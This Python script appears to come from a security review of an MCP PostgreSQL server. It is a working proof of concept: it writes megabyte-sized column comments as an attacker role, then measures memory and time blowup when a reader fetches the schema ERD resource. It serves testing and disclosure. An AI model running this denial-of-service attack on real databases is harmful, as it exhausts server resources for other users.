"""attack4 / target 5: the ER diagram reads every column comment whole, then cuts in Python.

The attacker (legacy CREATE on public) makes one table in public whose column comments are
big (COMMENT ON COLUMN needs only ownership of its table). ERD's statement json_agg's every
table's columns with `col_description` uncut, so the server's process receives and decodes
all of it to draw 60 characters per comment: memory and time grow with what the attacker
writes, for every caller of pg://schemas/public/erd (and the table's own erd).
Run: PYTHONPATH=tests:security-review uv run python security-review/attack4/erd_bloat.py [MB per comment] [columns]
"""
import asyncio
import resource
import sys
import time

import asyncpg
from common import DSN, as_role
from mcpclient import connect


def rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


async def main(mb: int, columns: int) -> int:
    atk = await asyncpg.connect(as_role("attacker"))
    await atk.execute("DROP TABLE IF EXISTS public.zz_erd")
    cols = ", ".join(f"c{i} int" for i in range(columns))
    await atk.execute(f"CREATE TABLE public.zz_erd ({cols})")
    for i in range(columns):
        await atk.execute(
            f"DO $$BEGIN EXECUTE format('COMMENT ON COLUMN public.zz_erd.c{i} IS %L', "
            f"repeat('A', {mb} * 1024 * 1024)); END$$")
    await atk.close()
    async with connect(as_role("reader")) as cl:
        before = rss_mb()
        t = time.perf_counter()
        try:
            r = await cl.read_resource("pg://schemas/public/erd")
            size = len(r.contents[0].text)
            outcome = f"answered {size} characters"
        except Exception as exc:  # noqa: BLE001
            outcome = f"failed: {str(exc)[:200]}"
        took = time.perf_counter() - t
        print(f"{columns} comments of {mb} MB: {outcome} in {took:.1f} s; "
              f"peak RSS of the server's process {before:.0f} -> {rss_mb():.0f} MB")
    atk = await asyncpg.connect(as_role("attacker"))
    await atk.execute("DROP TABLE IF EXISTS public.zz_erd")
    await atk.close()
    return 0


if __name__ == "__main__":
    a = sys.argv[1:]
    sys.exit(asyncio.run(main(int(a[0]) if a else 50, int(a[1]) if len(a) > 1 else 4)))
